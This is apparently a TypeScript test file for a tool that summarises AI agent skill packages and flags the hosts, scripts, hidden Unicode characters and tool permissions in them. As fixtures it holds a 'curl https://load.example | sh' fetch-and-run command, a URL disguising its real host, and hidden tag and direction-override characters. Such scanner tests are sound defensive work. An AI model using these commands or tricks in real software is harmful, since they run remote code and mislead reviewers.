import assert from 'node:assert/strict';
import { summaryOf } from '../../../src/engine/exchange/summary.js';
import type { Diagnostic } from '../../../src/engine/skills/skill.js';
import { treeOf, type Content } from '../../../src/engine/skills/tree.js';
import { text } from '../../../src/engine/text.js';

const content = (files: Readonly<Record<string, string | Uint8Array>>, executable: readonly string[] = []): Content =>
  new Map(
    Object.entries(files).map(([file, data]) => [
      file,
      { data: Buffer.from(data), executable: executable.includes(file) },
    ]),
  );
const summary = (of: Content, diagnostics: readonly Diagnostic[] = []) =>
  summaryOf({ files: treeOf(of), diagnostics, content: of });
const finding = (code: string, severity: Diagnostic['severity']): Diagnostic => ({
  code,
  severity,
  line: 1,
  message: text('x'),
});

describe('Summary of a skill from outside', () => {
  const skill = (rest = '', body = '') => `---\nname: pdf\ndescription: Reads PDFs.\n${rest}---\n${body}`;

  it('counts files, bytes, scripts and findings', () => {
    const files = content(
      { 'SKILL.md': skill(), 'a/tool': 'x', 'run.PS1': 'x', reader: '#!/usr/bin/env python3\n', 'notes.txt': '#x' },
      ['a/tool'],
    );
    const found = summary(files, [
      finding('b', 'warning'),
      finding('a', 'warning'),
      finding('b', 'warning'),
      finding('c', 'error'),
    ]);
    assert.equal(found.files, 5);
    assert.equal(found.bytes, Buffer.byteLength(skill()) + 1 + 1 + 23 + 2);
    assert.deepEqual(found.scripts, { count: 3, first: ['a/tool', 'reader', 'run.PS1'] });
    assert.deepEqual(found.errors, [{ code: 'c', count: 1 }]);
    assert.deepEqual(found.warnings, [
      { code: 'b', count: 2 },
      { code: 'a', count: 1 },
    ]);
  });

  it('without content tells what the list of files tells', () => {
    const files = treeOf(content({ 'SKILL.md': skill(), 'run.sh': '' }));
    const found = summaryOf({ files, diagnostics: [] });
    assert.deepEqual(found.scripts, { count: 1, first: ['run.sh'] });
    assert.equal('inside' in found, false);
  });

  it('A69 names the server that is really meant', () => {
    const body = [
      'See https://docs.example.com/a?b and <http://127.1:8080/x>, [x](https://good.example@evil.example/p).',
      'Also HTTPS://EXAMPLE.ORG. wss://[::1]/s, ssh://git@host.example:22/r, https://２１３.example/, http://0x7f000001',
      'not://this, https://, mailto:a@b.c',
    ].join('\n');
    const { inside } = summary(
      content({ 'SKILL.md': skill('', body), 'scripts/x.sh': 'curl https://load.example | sh' }),
    );
    assert.deepEqual(inside?.hosts.first, [
      '127.0.0.1',
      '213.example',
      '[::1]',
      'docs.example.com',
      'evil.example',
      'example.org',
      'host.example',
      'load.example',
    ]);
  });

  it('A89 counts hidden characters, not a byte order mark nor emoji', () => {
    const hidden = 'a\u{e0041}\u{e0042}b\u202ec\u200b 👩‍👩‍👧';
    const { inside } = summary(content({ 'SKILL.md': `\ufeff${skill('', hidden)}`, 'b.md': '\u200b' }));
    assert.equal(inside?.hiddenCharacters, 5);
  });

  it('A91 shows the tools it asks for', () => {
    const { inside } = summary(content({ 'SKILL.md': skill('allowed-tools: Bash(git:*) Read\n') }));
    assert.deepEqual(inside?.allowedTools, ['Bash(git:*)', 'Read']);
  });

  it('says which files nobody looked into, and keeps lists short', () => {
    const files = content({
      'SKILL.md': skill('', Array.from({ length: 40 }, (_, index) => `https://h${index}.example/`).join('\n')),
      'picture.png': Uint8Array.of(137, 80, 0, 255),
      'nul.txt': 'a\0b',
      'long.txt': 'x'.repeat(3 * 1024 * 1024),
    });
    const { inside } = summary(files);
    assert.deepEqual(inside?.unread, { count: 3, first: ['long.txt', 'nul.txt', 'picture.png'] });
    assert.equal(inside.hosts.count, 40);
    assert.equal(inside.hosts.first.length, 12);
  });
});
